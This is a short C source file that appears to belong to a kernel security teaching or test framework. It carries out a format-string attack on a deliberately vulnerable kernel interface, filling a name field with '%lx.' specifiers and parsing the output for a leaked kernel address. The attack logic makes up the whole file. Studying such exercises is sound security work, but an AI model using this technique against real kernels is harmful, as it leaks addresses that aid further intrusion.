/*
 * A format string.  The kernel prints what this program calls its thing as if it were a format: each
 * %lx then takes the next argument that nobody passed, out of registers and the kernel's stack.
 */
#include "user/attack/attack.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define KERNEL_HALF 0xffff000000000000ull

/* The first word of the text that may be an address of the kernel; 0: none. */
static uint64_t
kernel_address(char *text)
{
	for (char *word = strtok(text, "."); word; word = strtok(NULL, ".")) {
		uint64_t v = strtoull(word, NULL, 16);

		if (v >= KERNEL_HALF && v < -4096ull)
			return v;
	}
	return 0;
}

/* Looked at from outside, too. */
struct vuln_text attack_legal;

static void
run(void)
{
	static struct vuln_text thing;

	step("legal: the kernel prints a thing by its own format");
	vuln(VULN_FORMAT, &attack_legal);
	if (strncmp(attack_legal.text, "thing at 0x", 11) != 0)
		give_up("the kernel's own format does not work");

	step("illegal: the thing's name is a format");
	for (size_t n = 0; n + 4 < sizeof(thing.format); n += 4)
		memcpy(thing.format + n, "%lx.", 4);
	vuln(VULN_FORMAT, &thing);
	attack_address = kernel_address(thing.text);
	printf("  the kernel's stack holds %#llx\n", (unsigned long long)attack_address);
}

ATTACK(format) = {
	.name = "format",
	.what = "format string: registers and stack of the kernel are printed",
	.needs_off_x86_64 = "format",
	.needs_off_aarch64 = "format",
	.run = run,
};
